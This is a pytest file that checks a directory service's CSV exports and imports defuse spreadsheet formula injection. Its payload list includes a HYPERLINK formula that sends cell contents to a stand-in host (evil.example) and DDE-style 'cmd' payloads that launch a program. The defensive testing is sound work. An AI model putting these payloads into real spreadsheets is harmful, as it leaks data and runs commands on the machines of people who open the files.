"""CSV files that coordinators open in a spreadsheet never carry a live formula: a cell
typed as `=HYPERLINK(...)` by anyone who may edit the directory arrives as text."""

from __future__ import annotations

import asyncio
import csv
import io
import re
from pathlib import Path

import pytest
from click.testing import CliRunner

from directory.csv_cells import neutralise, restore
from directory.tables import Person, Site, Structure
from service.accounts.store import Role
from service.cli import main
from tests import factories as f

_NUMBER = re.compile(r"^[+-]?\d+([.,]\d+)?$")
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "=1+1",
]


def _is_live(cell: str) -> bool:
    """Would a spreadsheet read this cell as a formula? (Plain numbers are not formulas.)"""
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not _NUMBER.match(cell)


async def _isolated(names: list[str]) -> None:
    for name in names:
        await f.site(await f.structure(name), "26362")


async def test_network_tables_neutralise_formulas_on_the_web_and_the_api(client):
    await _isolated(FORMULAS)
    headers = await f.api_client_headers(Role.COORDINATOR)
    for url in ("/reseau/tableaux/silos.csv", "/api/v1/network/tables/silos.csv"):
        response = await client.get(url, headers=headers)
        assert response.status_code == 200, response.text
        rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
        names = sorted(r["structure_name"] for r in rows)
        assert names == sorted("'" + n for n in FORMULAS), url
        assert not any(_is_live(cell) for row in rows for cell in row.values()), url


@pytest.mark.parametrize("engine_name", ["sqlite"], indirect=True)
def test_export_neutralises_formulas_and_import_restores_them(database_url, tmp_path: Path):
    async def setup() -> None:
        structure_id = await f.structure("=1+1 Foyer")
        await f.site(structure_id, "29019", address="@domicile", lon=-4.4861, lat=48.39)
        await f.person(structure_id, "-Léna", "+Faure", phone="+33 6 12 34 56 78")

    asyncio.run(setup())
    folder = tmp_path / "export"
    result = CliRunner().invoke(main, ["--database-url", database_url, "export", str(folder)])
    assert result.exit_code == 0, result.output
    cells = []
    for path in sorted(folder.glob("*.csv")):
        with path.open(encoding="utf-8", newline="") as handle:
            cells += [c for row in csv.reader(handle) for c in row]
    assert "'=1+1 Foyer" in cells and "'@domicile" in cells and "'-Léna" in cells
    assert "-4.4861" in cells  # a plain number is no formula and stays a number
    assert not any(_is_live(c) for c in cells), [c for c in cells if _is_live(c)]

    async def wipe() -> None:
        for table in (Person, Site, Structure):
            await table.delete(force=True)

    asyncio.run(wipe())
    result = CliRunner().invoke(main, ["--database-url", database_url, "import", str(folder)])
    assert result.exit_code == 0, result.output

    async def names() -> tuple[list[str], list[tuple[str, str]]]:
        structures = [r["name"] for r in await Structure.select(Structure.name)]
        people = [
            (r["first_name"], r["last_name"])
            for r in await Person.select(Person.first_name, Person.last_name)
        ]
        return structures, people

    assert asyncio.run(names()) == (["=1+1 Foyer"], [("-Léna", "+Faure")])


@pytest.mark.parametrize(
    "value",
    ["=A1", "'=A1", "''+1", "'plain", "plain", "-4.5", "+33612345678", "-", "@", "\tx", ""],
)
def test_neutralise_and_restore_are_inverse(value: str):
    assert restore(neutralise(value)) == value
    assert not _is_live(neutralise(value))
